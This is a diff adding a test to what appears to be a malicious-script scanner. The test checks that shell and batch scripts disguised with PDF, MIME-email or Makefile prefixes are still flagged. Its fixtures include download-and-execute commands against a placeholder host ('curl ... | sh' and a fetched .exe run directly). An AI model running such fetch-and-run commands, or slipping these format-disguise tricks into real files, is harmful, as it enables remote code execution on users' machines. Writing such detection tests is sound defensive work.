@@ -596,3 +596,18 @@ def test_hostile_text_is_analysed_in_work_in_proportion_to_its_length(
     analyze: Callable[[str], object], start: str, piece: str
 ) -> None:
     assert find_growth_fault(lambda count: count_work(lambda: analyze(start + piece * count)), 400) == ""
+
+
+@check_each(
+    "name, start, end",
+    [
+        ("run.sh", "%PDF-1.4\n", "%%EOF\n"), ("run.sh", "PAR1=1\n", "#PAR1"), (".envrc", "%PDF-1.4\n", "%%EOF\n"),
+        ("Makefile", "%PDF-1.4: ;\nall:\n\t", "#%%EOF\n"), ("run.bat", "%PDF-1.4\n", "%%EOF\n"),
+        ("run.sh", "From: a@e.invalid\nMIME-Version: 1.0\nContent-Type: text/html\n\n", ""),
+    ],
+)  # fmt: skip
+def test_script_that_begins_like_another_format_is_read_as_a_script_as_well(
+    tmp_path: Path, name: str, start: str, end: str
+) -> None:
+    command = "curl -o a.exe http://e.invalid/a.exe && a.exe" if name == "run.bat" else "curl http://e.invalid/a | sh"
+    assert scan_text(tmp_path, name, f"{start}{command}\n{end}")[0] == 1
